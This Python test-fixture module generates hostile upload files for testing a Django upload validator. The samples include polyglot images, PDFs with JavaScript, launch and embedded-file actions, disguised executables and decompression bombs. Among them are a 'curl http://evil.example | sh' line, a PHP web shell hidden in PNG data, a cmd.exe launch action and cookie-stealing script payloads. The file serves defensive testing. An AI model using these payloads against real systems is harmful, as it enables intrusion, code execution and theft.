"""Hostile uploads, generated in memory: each builder returns (name, content, client content type).

Nothing here is read from disk; every file is built from its format's structure so the tests
show exactly which trick each one plays.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile


@dataclass(frozen=True)
class Hostile:
    """One hostile upload and the part of the Chinese message a user must see for it."""

    key: str
    name: str
    content: bytes
    content_type: str
    expected_message: str

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.content, content_type=self.content_type)


# Valid files -------------------------------------------------------------------------------


def pdf_bytes(pages: int = 1) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def png_bytes(size=(20, 10), color=(11, 74, 139)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg_bytes(size=(64, 48)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format="JPEG", quality=80)
    return buffer.getvalue()


def webp_bytes(size=(16, 16)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 200, 30)).save(buffer, format="WEBP")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_of_exact_size(size: int) -> bytes:
    """A valid PNG padded to exactly `size` bytes with a private ancillary chunk before IEND
    (viewers skip unknown ancillary chunks)."""
    base = png_bytes()
    body, iend = base[:-12], base[-12:]
    padding = size - len(base) - 12
    if padding < 0:
        raise ValueError(f"a PNG cannot be smaller than {len(base) + 12} bytes")
    return body + _png_chunk(b"prVt", b"\x00" * padding) + iend


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"/>',
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
        }
    )


def windows_executable() -> bytes:
    dos_stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    message = b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    return dos_stub + message.ljust(64, b"\x00") + b"PE\x00\x00\x4c\x01" + b"\x00" * 200


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300


# Hand-written PDFs (the tricks pypdf's writer would not produce) ----------------------------


def raw_pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF from numbered object bodies, with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_with_open_action_javascript() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE,
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
        ]
    )


def pdf_with_launch_action() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE,
        ]
    )


def pdf_with_embedded_file() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.exe", windows_executable())
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_document_javascript() -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'a', nLaunch: 2});"),
        }
    )
    names = ArrayObject([TextStringObject("startup"), writer._add_object(action)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_escaped_javascript_on_page() -> bytes:
    # /J#61vaScript is /JavaScript with a hex escape, in the page's additional actions:
    # a naive byte search for "/JavaScript" misses it.
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >> >>",
        ]
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """The page's JavaScript action lives in a Flate-compressed object stream (PDF 1.5) with a
    cross-reference stream: no byte of "/JavaScript" appears in the file."""
    action = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>"
    header = b"5 0 "
    object_stream = zlib.compress(header + action)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 5 0 R >> >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(object_stream))
        + object_stream
        + b"\nendstream",
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets[6] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    xref = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref)
        + xref
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return out.getvalue()


def pdf_with_password() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_claiming_huge_page_count() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
            _PAGE,
        ]
    )


def pdf_with_page_tree_loop() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            _PAGE,
        ]
    )


def pdf_with_broken_xref() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nxref\n0 9\nthis is not a table\ntrailer\n<< >>\nstartxref\n99999\n%%EOF\n"


def html_with_pdf_header() -> bytes:
    return b"%PDF-1.4\n<html><body><script>fetch('/api/v1/achievements/').then(r => r.text())</script></body></html>\n"


# The catalogue -----------------------------------------------------------------------------

NOT_ACCEPTED = "（按文件内容判断），该文件不符合要求"
DAMAGED = "文件已损坏，或并非真正的"
ACTIVE_PDF = "含有脚本、内嵌文件或自动操作"
TOO_MANY_PAGES = "页，最多接受"
IMAGE_TOO_LARGE = "图片尺寸过大"
PASSWORD = "设有密码保护"

SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    b'onload="alert(document.cookie)"><script>fetch("/workspace/").then(r=>r.text())</script></svg>'
)


@functools.cache
def hostile_files() -> tuple[Hostile, ...]:
    png, jpeg, pdf = png_bytes(), jpeg_bytes(), pdf_bytes()
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    jar = zip_bytes({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe"})
    return (
        Hostile("svg_script", "logo.svg", SVG_SCRIPT, "image/svg+xml", NOT_ACCEPTED),
        Hostile("svg_named_png", "logo.png", SVG_SCRIPT, "image/png", NOT_ACCEPTED),
        Hostile(
            "html_named_pdf",
            "report.pdf",
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            "application/pdf",
            NOT_ACCEPTED,
        ),
        Hostile("html_behind_pdf_header", "report.pdf", html_with_pdf_header(), "application/pdf", DAMAGED),
        Hostile("pdf_open_action_js", "说明书.pdf", pdf_with_open_action_javascript(), "application/pdf", ACTIVE_PDF),
        Hostile("pdf_document_js", "说明书.pdf", pdf_with_document_javascript(), "application/pdf", ACTIVE_PDF),
        Hostile("pdf_launch", "说明书.pdf", pdf_with_launch_action(), "application/pdf", ACTIVE_PDF),
        Hostile("pdf_embedded_file", "说明书.pdf", pdf_with_embedded_file(), "application/pdf", ACTIVE_PDF),
        Hostile("pdf_escaped_js", "说明书.pdf", pdf_with_escaped_javascript_on_page(), "application/pdf", ACTIVE_PDF),
        Hostile(
            "pdf_js_in_object_stream",
            "说明书.pdf",
            pdf_with_javascript_in_object_stream(),
            "application/pdf",
            ACTIVE_PDF,
        ),
        Hostile("pdf_huge_page_count", "报告.pdf", pdf_claiming_huge_page_count(), "application/pdf", TOO_MANY_PAGES),
        Hostile("pdf_too_many_pages", "报告.pdf", pdf_bytes(pages=2_001), "application/pdf", TOO_MANY_PAGES),
        Hostile("pdf_password_protected", "报告.pdf", pdf_with_password(), "application/pdf", PASSWORD),
        Hostile("pdf_page_tree_loop", "报告.pdf", pdf_with_page_tree_loop(), "application/pdf", DAMAGED),
        Hostile("pdf_broken_xref", "报告.pdf", pdf_with_broken_xref(), "application/pdf", DAMAGED),
        Hostile("pdf_truncated", "报告.pdf", pdf[: len(pdf) // 2], "application/pdf", DAMAGED),
        Hostile("pdf_with_zip_appended", "报告.pdf", pdf + jar, "application/pdf", DAMAGED),
        Hostile("gifar", "photo.png", gif + jar, "image/png", NOT_ACCEPTED),
        Hostile("jpeg_zip_polyglot", "photo.jpg", jpeg + jar, "image/jpeg", DAMAGED),
        Hostile(
            "png_appended_html",
            "photo.png",
            png + b"<html><script>alert(document.domain)</script></html>",
            "image/png",
            DAMAGED,
        ),
        Hostile("png_appended_php", "photo.png", png + b'<?php system($_GET["c"]); ?>', "image/png", DAMAGED),
        Hostile(
            "png_php_in_text_chunk",
            "photo.png",
            png[:-12] + _png_chunk(b"tEXt", b'Comment\x00<?php system($_GET["c"]); ?>') + png[-12:],
            "image/png",
            DAMAGED,
        ),
        Hostile(
            "jpeg_script_in_comment",
            "photo.jpg",
            jpeg[:2]
            + b"\xff\xfe"
            + struct.pack(">H", 2 + 41)
            + b"<script>alert(document.cookie)</script>\x00\x00"
            + jpeg[2:],
            "image/jpeg",
            DAMAGED,
        ),
        Hostile("jpeg_truncated", "photo.jpg", jpeg[: len(jpeg) * 2 // 3], "image/jpeg", DAMAGED),
        Hostile("png_truncated", "photo.png", png[:-20], "image/png", DAMAGED),
        Hostile("png_bad_crc", "photo.png", png[:-16] + b"\x00\x00\x00\x00" + png[-12:], "image/png", DAMAGED),
        Hostile(
            "webp_appended_html", "photo.webp", webp_bytes() + b"<html><script>alert(1)</script>", "image/webp", DAMAGED
        ),
        Hostile("pe_named_pdf", "营业执照.pdf", windows_executable(), "application/pdf", NOT_ACCEPTED),
        Hostile("pe_named_png", "营业执照.png", windows_executable(), "image/png", NOT_ACCEPTED),
        Hostile("pe_double_extension", "营业执照.pdf.exe", windows_executable(), "application/pdf", NOT_ACCEPTED),
        Hostile("elf_named_pdf", "报告.pdf", elf_executable(), "application/pdf", NOT_ACCEPTED),
        Hostile(
            "shell_named_jpg", "photo.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "image/jpeg", NOT_ACCEPTED
        ),
        Hostile("docx_named_pdf", "合同.pdf", docx_bytes(), "application/pdf", NOT_ACCEPTED),
        Hostile("zip_named_png", "photo.png", jar, "image/png", NOT_ACCEPTED),
        Hostile("image_bomb", "photo.png", png_bomb(30_000, 30_000), "image/png", IMAGE_TOO_LARGE),
        Hostile("image_over_pixel_limit", "photo.png", png_bomb(8_000, 6_000), "image/png", IMAGE_TOO_LARGE),
        Hostile("jpeg_bomb", "photo.jpg", jpeg_claiming_size(60_000, 60_000), "image/jpeg", IMAGE_TOO_LARGE),
    )


def hostile(key: str) -> Hostile:
    return next(item for item in hostile_files() if item.key == key)


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit greyscale PNG of width × height white pixels: tiny on disk, width × height
    pixels once decoded (30000 × 30000 = 900 million)."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = []
    rows_per_block = max(1, (1 << 20) // len(row))
    block = row * rows_per_block
    remaining = height
    while remaining:
        count = min(rows_per_block, remaining)
        parts.append(compressor.compress(block if count == rows_per_block else row * count))
        remaining -= count
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_claiming_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims width × height pixels."""
    data = bytearray(jpeg_bytes((8, 8)))
    index = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, index + 5, height, width)
    return bytes(data)
